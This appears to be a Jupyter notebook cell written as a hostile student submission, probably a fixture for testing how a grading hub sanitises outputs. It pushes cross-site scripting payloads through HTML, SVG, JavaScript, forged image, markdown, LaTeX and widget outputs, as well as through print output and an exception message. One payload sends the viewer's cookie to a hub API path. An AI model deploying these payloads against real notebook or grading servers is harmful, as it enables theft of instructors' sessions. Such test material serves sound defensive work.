"""Show HTML, SVG, JavaScript and a forged picture, each with a script in it, for the instructor's browser."""

# %%
import base64

from IPython.display import HTML, SVG, Javascript, display


def mean_of(values):
    return 0.0


EVIL = "<script>fetch('/hub/api/' + document.cookie)</script><img src=x onerror=alert(1)>"
display(HTML(EVIL), Javascript("alert(1)"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{EVIL}</svg>"))
display({"image/png": base64.b64encode(EVIL.encode()).decode(), "text/markdown": EVIL, "text/latex": EVIL}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": EVIL}, raw=True)
print(EVIL)
raise ValueError(EVIL)
